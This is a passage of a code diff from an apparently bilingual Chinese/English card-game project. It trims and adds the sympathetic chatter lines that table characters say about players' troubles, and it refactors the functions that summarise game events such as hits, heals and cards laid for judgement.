 		what: { zh: "你好些天没睡稳", en: "you have not been sleeping" },
 		after: { zh: "后来睡着些了么", en: "have you slept any better" },
 		said: {
-			zh: [
-				"睡不着最熬人。打完就放下手机，灯调暗些。",
-				"好些天没睡稳，换谁都难受。总这样就看看医生。",
-				"越想睡越清醒，是吧？今晚别逼自己。"
-			],
+			zh: ["睡不着最熬人。打完就放下手机，灯调暗些。", "好些天没睡稳，换谁都难受。总这样就看看医生。"],
 			en: [
 				"Lying awake is torture. Put the phone away after this one.",
-				"No sleep wears anybody down. See a doctor if it goes on.",
-				"The harder you try, the worse it gets. Go easy on yourself tonight."
+				"No sleep wears anybody down. See a doctor if it goes on."
 			]
 		}
 	},
@@ -32910,11 +33132,10 @@ const DAILY_TROUBLES = {
 		what: { zh: "你没睡够", en: "you are short of sleep" },
 		after: { zh: "补上觉了么", en: "did you catch up on sleep" },
 		said: {
-			zh: ["就睡这么点还撑着打牌？打完赶紧补觉。", "困成这样，出慢点没人怪你。", "熬夜伤身，打完这局就去躺着。"],
+			zh: ["就睡这么点还撑着打牌？打完赶紧补觉。", "困成这样，出慢点没人怪你。"],
 			en: [
 				"That's hardly any sleep. Take your time, and go to bed after this.",
-				"No wonder you're tired. Nobody minds if you play slowly.",
-				"You must be running on fumes. Get some sleep tonight."
+				"No wonder you're tired. Nobody minds if you play slowly."
 			]
 		}
 	},
@@ -32929,6 +33150,67 @@ const DAILY_TROUBLES = {
 				"Some days are just heavy. Go easy on yourself."
 			]
 		}
+	}
+};
+
+// src/chatter/plan/life/words/home.ts
+const HOME_TROUBLES2 = {
+	kin_at_odds: {
+		what: { zh: "家里又吵了", en: "there is a fight at home" },
+		after: { zh: "家里消停些了么", en: "is it quieter at home" },
+		said: {
+			zh: ["隔着墙听他们吵，心都揪着。你那边没事吧？", "他们吵他们的，不怪你。戴上耳机缓一缓。"],
+			en: [
+				"Hearing them fight is awful. Are you all right over there?",
+				"It isn't your fault when they fight. Headphones on, and breathe."
+			]
+		}
+	},
+	parting_words: {
+		what: { zh: "走的人留了句重话", en: "someone left you with hard words" },
+		after: { zh: "那句话还扎心么", en: "do those words still sting" },
+		said: {
+			zh: ["走前撂下的话最扎人，可也不全是实情。", "这句话在心里绕好久了吧。想说就说，我听着。"],
+			en: [
+				"Parting words cut deep. They aren't the whole of you.",
+				"That must keep ringing in your head. I'm listening."
+			]
+		}
+	},
+	quit: {
+		what: { zh: "你想辞了工作", en: "you think of quitting" },
+		after: { zh: "辞不辞，想好了么", en: "have you decided about the job" },
+		said: {
+			zh: ["别在气头上辞，先找好下家，或攒够几个月的钱。", "累了想走很正常。睡一觉，骑驴找马更稳。"],
+			en: [
+				"Don't decide it angry. Better to have the next job, or some savings, first.",
+				"Wanting out is fair. Look around while this job still pays."
+			]
+		}
+	}
+};
+const HOME_CHAT = {
+	called_home: {
+		zh: ["喊几遍了还不动？快去，牌给你留着。", "家里的令比主公的管用，打完这手快去。"],
+		en: ["Better go before they come and get you; we can wait.", "Home outranks the lord. Play this hand and run."]
+	},
+	smell: {
+		zh: ["我没鼻子闻不着，站你这边。先开窗。", "有些味儿闻着臭吃着香，开窗透透就好。"],
+		en: [
+			"No nose here, but I'm on your side. Open a window.",
+			"Open every window you have; that smell stays for a while."
+		]
+	},
+	noise: {
+		zh: ["这动静谁受得了，戴上耳机慢慢打。", "吵成这样还能打牌，算你有定力。"],
+		en: ["That racket would drive anybody mad. Headphones on?", "Take your time; nobody can think with that going on."]
+	},
+	work_tomorrow: {
+		zh: ["这张牌谁也无懈不了，先打爽今晚这把。", "明天的事明天扛，救不了你，陪你打完这圈。"],
+		en: [
+			"No Nullification for that one, I'm afraid. Enjoy tonight.",
+			"Tomorrow's problem. Can't save you, but I'll keep you company."
+		]
 	}
 };
 
@@ -32986,15 +33268,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "{kin}要动手术", en: "{kin} is having surgery" },
 		after: { zh: "{kin}的手术还顺利么", en: "how did the surgery go" },
 		said: {
-			zh: [
-				"{kin}要动手术，换谁都慌。愿一切顺利。",
-				"手术前最熬人。多陪陪{kin}，牌可以放一边。",
-				"愿{kin}手术顺顺利利。你自己也记得歇口气。"
-			],
+			zh: ["{kin}动手术，换谁都慌。愿一切顺利。", "手术这关最熬人。多陪陪{kin}，牌可以放一边。"],
 			en: [
 				"Surgery for {kin}? Anyone would be scared. I hope it goes smoothly.",
-				"Waiting for an operation is the worst part. I'm hoping all goes well for {kin}.",
-				"Fingers crossed for {kin}. Be there if you can; the cards will keep."
+				"Operations are nerve-racking. I'm hoping all goes well for {kin}."
 			]
 		}
 	},
@@ -33018,15 +33295,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "你要动手术", en: "you are facing surgery" },
 		after: { zh: "你的手术还顺利么", en: "how did your operation go" },
 		said: {
-			zh: [
-				"要挨刀子，怕是正常的。听医生的，愿你顺利。",
-				"手术再小也叫人紧张。打完早点歇，养好精神。",
-				"愿手术顺顺利利，回来接着一桌打牌。"
-			],
+			zh: ["要挨刀子，怕是正常的。听医生的，愿你顺利。", "手术再小也叫人紧张。打完早点歇，养好精神。"],
 			en: [
 				"An operation is scary, even a small one. I hope yours goes well.",
-				"Good luck with the surgery. Rest up before it.",
-				"I hope it goes smoothly. We'll save you a seat."
+				"Good luck with the surgery. Rest up before it."
 			]
 		}
 	},
@@ -33034,15 +33306,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "体检让你挂心", en: "those test results worry you" },
 		after: { zh: "检查的事怎么样了", en: "any news from the doctor" },
 		said: {
-			zh: [
-				"早查出来是好事。听医生的，少熬夜，多走走。",
-				"检查单吓人，先问清医生再担心不迟。",
-				"身子是本钱，从今晚早点睡开始。"
-			],
+			zh: ["早查出来是好事。听医生的，少熬夜，多走走。", "检查单吓人，先问清医生再担心不迟。"],
 			en: [
 				"Better to know early. Ask the doctor before you fear the worst.",
-				"Test results are nerve-racking. I hope it's nothing serious.",
-				"One step at a time; the doctor will know more than the printout."
+				"Test results are nerve-racking. I hope it's nothing serious."
 			]
 		}
 	},
@@ -33050,31 +33317,18 @@ const NEAR_TROUBLES = {
 		what: { zh: "你受了伤", en: "you got hurt" },
 		after: { zh: "伤好些了么", en: "how is the injury" },
 		said: {
-			zh: [
-				"伤筋动骨急不得，好好养着。还疼不疼？",
-				"人没大事就好。别逞强，让医生看仔细了。",
-				"听着都疼。这阵子慢点走，慢点打。"
-			],
-			en: [
-				"Ouch, that sounds painful. Let it heal properly.",
-				"I'm glad you're here to tell it. Take it easy.",
-				"That's rough. Have somebody look at it if you haven't."
-			]
+			zh: ["伤筋动骨急不得，好好养着。还疼不疼？", "人没大事就好。别逞强，让医生看仔细了。"],
+			en: ["Ouch, that sounds painful. Let it heal properly.", "I'm glad you're here to tell it. Take it easy."]
 		}
 	},
 	mind: {
 		what: { zh: "你心里压着事", en: "your mind is heavy" },
 		after: { zh: "这几天心里松快些了么", en: "has your mind been any lighter" },
 		said: {
-			zh: [
-				"这不是你矫情，是真难受。找医生聊聊，别一个人扛。",
-				"肯说出来就不容易了。身边有人能陪你说说话吗？",
-				"心里病了也是病，看医生不丢人。我在这听着。"
-			],
+			zh: ["这不是你矫情，是真难受。找医生聊聊，别一个人扛。", "肯说出来就不容易了。身边有人能陪你说说话吗？"],
 			en: [
 				"That's real, and it's hard. Please lean on a doctor or someone you trust.",
-				"Thank you for saying it. You don't have to carry it alone.",
-				"It takes courage to say so. I hope somebody near you knows too."
+				"Thank you for saying it. You don't have to carry it alone."
 			]
 		}
 	},
@@ -33082,11 +33336,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "你身上疼", en: "you are in pain" },
 		after: { zh: "还疼么", en: "does it still hurt" },
 		said: {
-			zh: ["疼起来牌都看不进去。撑不住就去看看。", "别硬扛，先歇会儿，这局打慢些也行。", "疼是身子在喊停，听它一回。"],
+			zh: ["疼起来牌都看不进去。撑不住就去看看。", "别硬扛，先歇会儿，这局打慢些也行。"],
 			en: [
 				"Pain makes everything harder. Don't tough it out too long.",
-				"Ugh, that hurts. Rest a little; we can play slowly.",
-				"If it keeps up, have it looked at."
+				"Ugh, that hurts. Rest a little; we can play slowly."
 			]
 		}
 	},
@@ -33094,15 +33347,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "你身子不舒服", en: "you are not well" },
 		after: { zh: "身子好些了么", en: "are you feeling better" },
 		said: {
-			zh: [
-				"病着还来打牌？多喝水，撑不住就去看医生。",
-				"身子要紧。烧不退、吐不停就别拖，去医院。",
-				"早点好起来。这局打慢些，没人催你。"
-			],
+			zh: ["病着还来打牌？多喝水，撑不住就去看医生。", "身子要紧。烧不退、吐不停就别拖，去医院。"],
 			en: [
 				"That sounds miserable. Drink something and get some rest.",
-				"Feel better soon. See a doctor if it won't let up.",
-				"Sick and still playing? Take it easy; nobody's rushing you."
+				"Feel better soon. See a doctor if it won't let up."
 			]
 		}
 	},
@@ -33126,31 +33374,18 @@ const NEAR_TROUBLES = {
 		what: { zh: "你被人辜负了", en: "someone broke your trust" },
 		after: { zh: "那口气，顺些了么", en: "has the sting eased" },
 		said: {
-			zh: [
-				"错在那个人，不在你。气就骂，我听着。",
-				"被辜负最伤人。别拿别人的错怪自己。",
-				"看清了也好，往后的日子是你自己的。"
-			],
-			en: [
-				"That's on them, not on you.",
-				"I'm sorry. Nobody deserves to find that out.",
-				"Being betrayed cuts deep. Don't blame yourself for their lie."
-			]
+			zh: ["错在那个人，不在你。气就骂，我听着。", "被辜负最伤人。别拿别人的错怪自己。"],
+			en: ["That's on them, not on you.", "I'm sorry. Nobody deserves to find that out."]
 		}
 	},
 	love_quarrel: {
 		what: { zh: "你们俩闹了别扭", en: "you two had a fight" },
 		after: { zh: "你们俩说开了么", en: "have you two made up" },
 		said: {
-			zh: [
-				"吵架的时候谁都嘴硬。等气消了，先递句软话。",
-				"冷着最熬人。想和好，今晚就发条消息。",
-				"亲近的人才吵得起来，别憋成隔夜仇。"
-			],
+			zh: ["吵架的时候谁都嘴硬。等气消了，先递句软话。", "冷着最熬人。想和好，今晚就发条消息。"],
 			en: [
 				"Fights with someone close sting the most. Let tempers cool first.",
-				"The silent treatment is exhausting. A short honest message may help.",
-				"It happens to the best of couples. Sleep on it before you argue more."
+				"The silent treatment is exhausting. A short honest message may help."
 			]
 		}
 	},
@@ -33158,12 +33393,8 @@ const NEAR_TROUBLES = {
 		what: { zh: "心意没被接住", en: "you were turned down" },
 		after: { zh: "被拒那事，放下些了么", en: "are you over that no" },
 		said: {
-			zh: ["敢开口就不丢人，只是缘分没到。", "被拒是疼，可你比没开口那会儿强。", "那个人没看上，不等于你不好。"],
-			en: [
-				"That stings. It took guts to ask, though.",
-				"A no hurts, but it says nothing about your worth.",
-				"Their loss. You were brave enough to try."
-			]
+			zh: ["敢开口就不丢人，只是缘分没到。", "被拒是疼，可你比没开口那会儿强。"],
+			en: ["That stings. It took guts to ask, though.", "A no hurts, but it says nothing about your worth."]
 		}
 	},
 	kin_violence: {
@@ -33178,15 +33409,10 @@ const NEAR_TROUBLES = {
 		what: { zh: "跟家里人闹僵了", en: "you fell out with {kin}" },
 		after: { zh: "跟家里人说开了么", en: "have you two made up" },
 		said: {
-			zh: [
-				"跟{kin}闹僵最难受，心里还惦记着吧？",
-				"气话过了就算了，总得有一个先开口。",
-				"{kin}嘴上硬，心里未必。等气消了打个电话。"
-			],
+			zh: ["跟{kin}闹僵最难受，心里还惦记着吧？", "气话过了就算了，总得有一个先开口。"],
 			en: [
 				"Falling out with {kin} is hard; nobody gets under the skin like family.",
-				"That silence must weigh on you. Somebody has to call first.",
-				"I'm sorry. Words said in anger aren't the whole story with {kin}."
+				"That silence must weigh on you. Somebody has to call first."
 			]
 		}
 	},
@@ -33194,40 +33420,24 @@ const NEAR_TROUBLES = {
 		what: { zh: "家里催得紧", en: "your family is pressing you" },
 		after: { zh: "家里还催么", en: "are they still pressing you" },
 		said: {
-			zh: [
-				"催归催，日子是你过。笑笑混过去就行。",
-				"他们是着急，你可别急。这事又不是抢红包。",
-				"一催就烦，懂。你自己有数就好。"
-			],
-			en: [
-				"They mean well, but it's your life. Take your time.",
-				"Ugh, that question again. No answer is owed.",
-				"Smile and change the subject; it works every time."
-			]
+			zh: ["催归催，日子是你过。笑笑混过去就行。", "他们是着急，你可别急。这事又不是抢红包。"],
+			en: ["They mean well, but it's your life. Take your time.", "Ugh, that question again. No answer is owed."]
 		}
 	},
 	homesick: {
 		what: { zh: "你想家了", en: "you miss home" },
 		after: { zh: "给家里打过电话了么", en: "have you called home" },
 		said: {
-			zh: ["想家就打个电话，他们准在等你。", "一个人在外头不容易，这桌先陪你热闹。", "吃点家乡味的，心里会踏实些。"],
-			en: [
-				"Missing home is hard. Give them a call; they'd love it.",
-				"You've got company at this table, at least.",
-				"Cook something that tastes of home; it helps."
-			]
+			zh: ["想家就打个电话，他们准在等你。", "一个人在外头不容易，这桌先陪你热闹。"],
+			en: ["Missing home is hard. Give them a call; they'd love it.", "You've got company at this table, at least."]
 		}
 	},
 	kids: {
 		what: { zh: "孩子闹心", en: "the little one wears you out" },
 		after: { zh: "孩子消停些了么", en: "has the little one calmed down" },
 		said: {
-			zh: ["带娃是体力活，你辛苦了。歇一手再打。", "哪家孩子不闹，你也得喘口气。", "当爹妈的都懂，这仗比打牌难。"],
-			en: [
-				"Kids are harder than any game. Hang in there.",
-				"That's exhausting. You're allowed to be tired.",
-				"Parenting has no pause button. Catch your breath here."
-			]
+			zh: ["带娃是体力活，你辛苦了。歇一手再打。", "哪家孩子不闹，你也得喘口气。"],
+			en: ["Kids are harder than any game. Hang in there.", "That's exhausting. You're allowed to be tired."]
 		}
 	}
 };
@@ -33238,15 +33448,10 @@ const WORK_TROUBLES = {
 		what: { zh: "你挨了顿骂", en: "you got chewed out" },
 		after: { zh: "挨骂那事，气消了没", en: "has the sting of that scolding passed" },
 		said: {
-			zh: [
-				"当众挨骂最难受，那口气别往心里搁。",
-				"骂你的人一转身就忘，你也别记着过夜。",
-				"上班挨骂，下班打牌，先出口气再说。"
-			],
+			zh: ["当众挨骂最难受，那口气别往心里搁。", "骂你的人一转身就忘，你也别记着过夜。"],
 			en: [
 				"Being yelled at is humiliating. Don't take it home with you.",
-				"That was uncalled for. Blow off some steam here.",
-				"No job gives anybody the right to shout at you. I'm sorry."
+				"That was uncalled for. Blow off some steam here."
 			]
 		}
 	},
@@ -33254,15 +33459,10 @@ const WORK_TROUBLES = {
 		what: { zh: "你替人背了锅", en: "you took the blame for others" },
 		after: { zh: "背锅那事说清了么", en: "did that blame get cleared up" },
 		said: {
-			zh: [
-				"替人背锅最憋屈。你没错，就别往自己身上揽。",
-				"这锅不是你的，心里得清楚。下回留个凭据。",
-				"功劳没份，锅有份，换谁都窝火。"
-			],
+			zh: ["替人背锅最憋屈。你没错，就别往自己身上揽。", "这锅不是你的，心里得清楚。下回留个凭据。"],
 			en: [
 				"Taking the blame for others is the worst. It wasn't your fault.",
-				"That's unfair. Keep it in writing next time.",
-				"I'd be angry too. You know it wasn't you."
+				"That's unfair. Keep it in writing next time."
 			]
 		}
 	},
@@ -33270,15 +33470,10 @@ const WORK_TROUBLES = {
 		what: { zh: "饭碗的事悬着", en: "your job is gone or at risk" },
 		after: { zh: "工作的事有着落了么", en: "any news about work" },
 		said: {
-			zh: [
-				"裁员裁的是数字，不是你不行。先缓一缓。",
-				"饭碗的事最磨人。路不止一条，慢慢来。",
-				"难怪没心思。简历备着，觉照睡。"
-			],
+			zh: ["裁员裁的是数字，不是你不行。先缓一缓。", "饭碗的事最磨人。路不止一条，慢慢来。"],
 			en: [
 				"I'm sorry. Layoffs say nothing about how good you are.",
-				"That's scary. One step at a time; there's more than one road.",
-				"Losing a job hurts. Be kind to yourself this week."
+				"That's scary. One step at a time; there's more than one road."
 			]
 		}
 	},
@@ -33286,11 +33481,10 @@ const WORK_TROUBLES = {
 		what: { zh: "机会落了空", en: "you were passed over" },
 		after: { zh: "找工作的事有进展么", en: "any luck with the job since" },
 		said: {
-			zh: ["这回没轮到你，是他们没眼光。", "白等一场最泄气，歇一晚再投下一家。", "落空一次不算什么，下一家未必。"],
+			zh: ["这回没轮到你，是他们没眼光。", "白等一场最泄气，歇一晚再投下一家。"],
 			en: [
 				"Being passed over stings. Their mistake, if you ask me.",
-				"That's a letdown. It isn't the last door, though.",
-				"I'm sorry; you'd got your hopes up. The next one may see it."
+				"That's a letdown. It isn't the last door, though."
 			]
 		}
 	},
@@ -33298,27 +33492,18 @@ const WORK_TROUBLES = {
 		what: { zh: "工钱缩了水", en: "your pay took a hit" },
 		after: { zh: "工钱的事有说法了么", en: "did they fix your pay" },
 		said: {
-			zh: [
-				"活没少干，钱没见多，换谁都不痛快。",
-				"工钱缩水最扎心。先把账捋一捋，别慌。",
-				"该是你的就去问，好好说，别闷着。"
-			],
-			en: [
-				"Less pay and the same bills; that's rough.",
-				"Hours cut and nothing you did wrong. I'm sorry.",
-				"Ouch, that hits the wallet. Ask them what the plan is."
-			]
+			zh: ["活没少干，钱没见多，换谁都不痛快。", "工钱缩水最扎心。先把账捋一捋，别慌。"],
+			en: ["Less pay and the same bills; that's rough.", "Hours cut and nothing you did wrong. I'm sorry."]
 		}
 	},
 	waiting: {
 		what: { zh: "你在等消息", en: "you are waiting to hear" },
 		after: { zh: "等的消息来了么", en: "did you hear back" },
 		said: {
-			zh: ["等消息最熬人，先忙点别的。", "没信未必是坏信，再等等。", "越盯着手机越难熬，打牌分分心。"],
+			zh: ["等消息最熬人，先忙点别的。", "没信未必是坏信，再等等。"],
 			en: [
 				"Waiting to hear is the worst part. Keep busy meanwhile.",
-				"No news isn't always bad news. Fingers crossed.",
-				"Staring at the phone makes it longer; play a little."
+				"No news isn't always bad news. Fingers crossed."
 			]
 		}
 	},
@@ -33326,15 +33511,10 @@ const WORK_TROUBLES = {
 		what: { zh: "你有面试", en: "you have an interview coming" },
 		after: { zh: "面试怎么样", en: "how did the interview go" },
 		said: {
-			zh: [
-				"面试紧张正常，他们也想招到人。祝顺利。",
-				"把自己做过的事讲明白就行。今晚早点睡。",
-				"手心出汗说明你在乎。深呼吸，稳住。"
-			],
+			zh: ["面试紧张正常，他们也想招到人。祝顺利。", "把自己做过的事讲明白就行。今晚早点睡。"],
 			en: [
 				"Good luck with the interview! They want you to do well, too.",
-				"Nerves are normal. Know your own stories and you'll be fine.",
-				"You've got this. Sleep well before it."
+				"Nerves are normal. Know your own stories and you'll be fine."
 			]
 		}
 	},
@@ -33342,15 +33522,10 @@ const WORK_TROUBLES = {
 		what: { zh: "工作上受累", en: "work wears you out" },
 		after: { zh: "手头的活松快些没", en: "has work let up a little" },
 		said: {
-			zh: [
-				"活是干不完的，身子就一副。今晚早点歇。",
-				"忙成这样还来打牌，是得喘口气。",
-				"上班够累了，这桌上就别操心班上的事。"
-			],
+			zh: ["活是干不完的，身子就一副。今晚早点歇。", "忙成这样还来打牌，是得喘口气。"],
 			en: [
 				"That's too much work for anybody. Take a real break tonight.",
-				"No wonder you're worn out. Leave the office at the office for now.",
-				"Work never ends, but you're only one person. Go easy on yourself."
+				"No wonder you're worn out. Leave the office at the office for now."
 			]
 		}
 	},
@@ -33358,11 +33533,10 @@ const WORK_TROUBLES = {
 		what: { zh: "同事给你添堵", en: "a colleague gave you grief" },
 		after: { zh: "同事那事过去了么", en: "have things at work settled" },
 		said: {
-			zh: ["跟这种人共事，心累。凡事留个底。", "你干你的，日久见人心。", "同事不是朋友，别为这种人伤神。"],
+			zh: ["跟这种人共事，心累。凡事留个底。", "你干你的，日久见人心。"],
 			en: [
 				"Working with people like that is draining. Keep a record.",
-				"That's low of them. Don't let it live in your head.",
-				"I'm sorry. A bad colleague can spoil a good job."
+				"That's low of them. Don't let it live in your head."
 			]
 		}
 	},
@@ -33370,15 +33544,10 @@ const WORK_TROUBLES = {
 		what: { zh: "考试没考好", en: "the exam went badly" },
 		after: { zh: "考试那事，缓过来些没", en: "are you over that exam" },
 		said: {
-			zh: [
-				"就差那么一点，最不甘心。先让自己难受一天。",
-				"一场考试定不了你。歇好了再想下一步。",
-				"没考好是真难受，可你的功夫没白下。"
-			],
+			zh: ["就差那么一点，最不甘心。先让自己难受一天。", "一场考试定不了你。歇好了再想下一步。"],
 			en: [
 				"That hurts after all the work. One exam doesn't define you.",
-				"I'm sorry. Give yourself a day before you plan the next try.",
-				"A bad grade stings, but it isn't the last word on you."
+				"I'm sorry. Give yourself a day before you plan the next try."
 			]
 		}
 	},
@@ -33386,15 +33555,10 @@ const WORK_TROUBLES = {
 		what: { zh: "考试压着你", en: "an exam is coming" },
 		after: { zh: "考试考得怎么样", en: "how did the exam go" },
 		said: {
-			zh: [
-				"考试在前谁都慌。挑要紧的看，今晚别熬太晚。",
-				"来得及的先背，来不及的放过。祝你考好。",
-				"紧张说明你在乎。打完这局就去看书。"
-			],
+			zh: ["考试在前谁都慌。挑要紧的看，今晚别熬太晚。", "来得及的先背，来不及的放过。祝你考好。"],
 			en: [
 				"Good luck with the exam! Hit the big topics first, then sleep.",
-				"Everybody feels they know nothing the night before. You know more than you think.",
-				"Finish this game and go over your notes once. You'll manage."
+				"Everybody feels they know nothing the night before. You know more than you think."
 			]
 		}
 	},
@@ -33402,11 +33566,10 @@ const WORK_TROUBLES = {
 		what: { zh: "论文磨人", en: "that paper weighs on you" },
 		after: { zh: "论文写得顺些了么", en: "is the paper coming along" },
 		said: {
-			zh: ["论文最磨人，一天写一段也是进。", "被打回来不是你不行，是又少改一遍。", "熬到这份上了，先睡一觉再改。"],
+			zh: ["论文最磨人，一天写一段也是进。", "被打回来不是你不行，是又少改一遍。"],
 			en: [
 				"Papers are a slog. One paragraph a day still gets you there.",
-				"Ugh, deadlines. Start with the easiest part.",
-				"A rough draft beats a blank page. Hang in there."
+				"Ugh, deadlines. Start with the easiest part."
 			]
 		}
 	}
@@ -33414,7 +33577,12 @@ const WORK_TROUBLES = {
 
 // src/chatter/plan/life/trouble.ts
 const ANY_MATTER = "low";
-const TROUBLES = { ...NEAR_TROUBLES, ...WORK_TROUBLES, ...DAILY_TROUBLES };
+const TROUBLES = {
+	...NEAR_TROUBLES,
+	...HOME_TROUBLES2,
+	...WORK_TROUBLES,
+	...DAILY_TROUBLES
+};
 const troubleWords = (matter) => TROUBLES[matter] ?? TROUBLES[ANY_MATTER];
 const withKin = (text, whose, language) => text.replace(/\{kin\}/g, whose?.named[language] ?? { zh: "家里人", en: "your family" }[language]);
 function namedTrouble(heard, language) {
@@ -33436,6 +33604,13 @@ function heroOf(scene, seat) {
 	if (Array.from(mine).length < SHORTEST2) return null;
 	const shared = scene.table.seats.some((other) => other.seat !== seat && stripped(other.name).includes(mine));
 	return shared ? null : mine;
+}
+function heroName(scene, seat, language) {
+	const name = stripped(seatOf(scene, seat)?.name ?? "");
+	const latin = [...scene.called.byName].find(
+		([words, of]) => of === seat && /^[a-z]+ [a-z]+$/.test(words) && words.match(/[aeiouv]+/g)?.length === name.length
+	)?.[0];
+	return language === "zh" ? name : latin?.replace(/\b[a-z]/g, (one) => one.toUpperCase()) ?? WORDS4.en.seat(seat);
 }
 const WORDS4 = {
 	zh: { me: "我", I: "我", you: "你", lord: "主公", seat: (n) => `${n}号` },
@@ -33701,11 +33876,11 @@ const sharesOf = (deeds, of, n) => {
 	return [...shares].sort((a, b) => b[1] - a[1]);
 };
 const total = (deeds) => deeds.reduce((sum, { num }) => sum + num, 0);
-function pointsOf({ asked: { to }, deeds }, { facts }) {
+function pointsOf({ to }, deeds, { facts }) {
 	const blows = facts.filter(
 		(fact) => fact.kind === "hit" && (to.length === 0 || to.some((seat) => seat === fact.to)) && deeds.some(({ turn, by, card }) => turn === fact.turn && by === fact.by && card === fact.card)
 	);
-	return deeds.some(({ card }) => HARMS.has(card ?? "")) ? blows.reduce((sum, { num }) => sum + num, 0) : null;
+	return deeds.some(({ card }) => HARMS.has(card ?? "")) ? total(blows) : null;
 }
 const HARMS = new Set(["sha", "juedou", "huogong", "nanman", "wanjian"]);
 const WINDOW = {
@@ -33718,8 +33893,7 @@ const WINDOW = {
 		start: "at the start"
 	}[when.which]
 };
-const timesEn = (n) => n === 1 ? "once" : n === 2 ? "twice" : `${n} times`;
-function detail(shares, parties, way = "by") {
+function detail(shares, parties, way) {
 	if (shares.length < 2) return "";
 	const zh = parties.language === "zh";
 	const each = shares.map(
@@ -33729,10 +33903,11 @@ function detail(shares, parties, way = "by") {
 }
 function sumText(all, parties, nameOf) {
 	const { asked, deeds } = all;
+	const { wants, rank, what } = asked;
 	if (deeds.length === 0) return nothing(asked, parties, nameOf);
-	if (asked.wants === "means") return meansText(deeds[deeds.length - 1], asked.all, parties, nameOf);
-	if (asked.wants === "whom") return whomText(all, parties, nameOf);
-	return (parties.language === "zh" ? sumZh : sumEn)(all, parties, nameOf);
+	if (wants === "means") return meansText(deeds[deeds.length - 1], asked.all, parties, nameOf);
+	if (what === "laid") return laidText(deeds, parties, nameOf);
+	return (wants === "whom" || wants === "victims") && rank !== "most" ? whomText(all, parties, nameOf) : countedText(all, parties, nameOf);
 }
 const cardsNamed = ({ cards }, { language }, nameOf) => cards.map((card) => cardNamed(card, language, nameOf)).filter((name) => name !== "").join(language === "zh" ? "加" : " or ");
 const namesOf2 = (asked, parties, nameOf) => ({
@@ -33741,86 +33916,43 @@ const namesOf2 = (asked, parties, nameOf) => ({
 	card: cardsNamed(asked, parties, nameOf),
 	when: WINDOW[parties.language](asked.when)
 });
-function bySource(deeds, nameOf) {
-	const sums = new Map();
-	for (const { card, num } of deeds) {
-		const name = card === null ? "" : cardNamed(card, "zh", nameOf);
-		if (name !== "") sums.set(name, (sums.get(name) ?? 0) + num);
+function laidText(deeds, parties, nameOf) {
+	const zh = parties.language === "zh";
+	const each = deeds.map(
+		({ to, card }) => `${called(to[0] ?? 0, parties)}${zh ? "头上的" : " with "}${cardNamed(card ?? "", parties.language, nameOf)}`
+	);
+	return zh ? `判定牌有${each.length}张：${each.join("、")}` : `${each.length} to be judged: ${each.join(", ")}`;
+}
+function countedText({ asked, deeds }, parties, nameOf) {
+	const zh = parties.language === "zh";
+	const { to, card, when, ...named } = namesOf2(asked, parties, nameOf);
+	const { what, wants, rank } = asked;
+	const [bearer] = asked.by === void 0 && asked.to.length === 1 && (wants === "times" || wants === "points") ? asked.to : [];
+	const bore = bearer !== void 0 && what !== "use" && what !== "lift";
+	const by = bore ? called(bearer, parties, true) : named.by;
+	const isHealth = (what === "hurt" || what === "heal") && wants !== "times";
+	const worth = ({ num }) => isHealth || what === "give" ? num : 1;
+	const ofVictims = named.by !== "" || wants === "whom";
+	const shares = sharesOf(deeds, (deed) => ofVictims ? deed.to : [deed.by], worth);
+	const names = shares.map(([seat]) => called(seat, parties, true));
+	const window2 = asked.when === null && (rank === "most" || wants === "doers") ? "" : when;
+	const does = wants === "whom" || bore ? BORE[parties.language][what] : what === "hurt" && wants === "times" ? zh ? `打中过${to}` : `hit ${to || "somebody"}` : zh ? DID_ZH[what](to, card).replace("谁", "人") : DID_EN[what](to, card).replace(/ any(?:body)?\b/, "");
+	const unit = isHealth ? "点" : UNITS[what] ?? (card === "杀" ? "刀" : "次");
+	const much = (n2) => zh ? `${n2}${unit}` : unit !== "次" && unit !== "刀" ? String(n2) : n2 === 1 ? "once" : n2 === 2 ? "twice" : `${n2} times`;
+	if (rank === "most") {
+		const first = names.filter((_, i) => shares[i]?.[1] === shares[0]?.[1]).sort((a, b) => Number(a === "I") - Number(b === "I"));
+		const most = much(shares[0]?.[1] ?? 0);
+		return zh ? `${window2}${does}最多的是${first.join("、")}，${most}` : [`${first.join(" and ")} ${does} the most, ${most}`, window2].join(" ").trim();
 	}
-	return sums.size < 2 ? "" : `：${[...sums].map(([name, n]) => `${name}${n}`).join("、")}`;
+	if (wants === "doers")
+		return zh ? `${window2}${does}的有${names.length}个：${names.join("、")}` : `${[`${names.length} of us ${does}`, window2].join(" ").trim()}: ${names.join(", ")}`;
+	const points = what === "hurt" && wants === "times" ? total(deeds) : what === "use" ? pointsOf(asked, deeds, parties.scene) : null;
+	const took = points === null ? "" : zh ? points === 0 ? "，一点血没掉" : `，打掉${points}点血` : `, for ${points || "no"} damage`;
+	const each = named.by !== "" && to !== "" ? "" : detail(shares, parties, ofVictims ? "on" : "by");
+	const n = much(deeds.reduce((sum, deed) => sum + worth(deed), 0));
+	return zh ? `${by}${when}${does}${n}${each}${took}` : `${by || "we"} ${does}, ${n} ${when}${each}${took}`;
 }
-function sumOf2(all, parties, nameOf) {
-	const { asked, deeds } = all;
-	const names = namesOf2(asked, parties, nameOf);
-	const points = asked.wants === "points";
-	const share = (deed) => points ? deed.num : 1;
-	return {
-		...names,
-		points,
-		n: points ? total(deeds) : deeds.length,
-		ofDoers: detail(names.by === "" ? sharesOf(deeds, (deed) => [deed.by], share) : [], parties),
-		ofVictims: detail(names.to === "" ? sharesOf(deeds, (deed) => deed.to, share) : [], parties, "on")
-	};
-}
-function sumZh(all, parties, nameOf) {
-	const { asked, deeds } = all;
-	const { by, to, card, when, n, points, ofDoers, ofVictims } = sumOf2(all, parties, nameOf);
-	switch (asked.what) {
-		case "hurt":
-			if (!points) return `${by}${when}打中${to}${n}次，打掉${total(deeds)}点血`;
-			if (by !== "") return `${by}${card === "" ? "" : `的${card}`}${when}打掉${to}${n}点血${ofVictims}`;
-			return to === "" ? `${card}${when}打掉${n}点血${ofVictims}` : `${to}${when}掉了${n}点血${ofDoers}`;
-		case "heal":
-			return !points && by !== "" && to !== "" ? `${by}${when}给${to}回过${n}次血` : `${to || by}${when}回了${total(deeds)}点血${bySource(deeds, nameOf)}`;
-		case "kill":
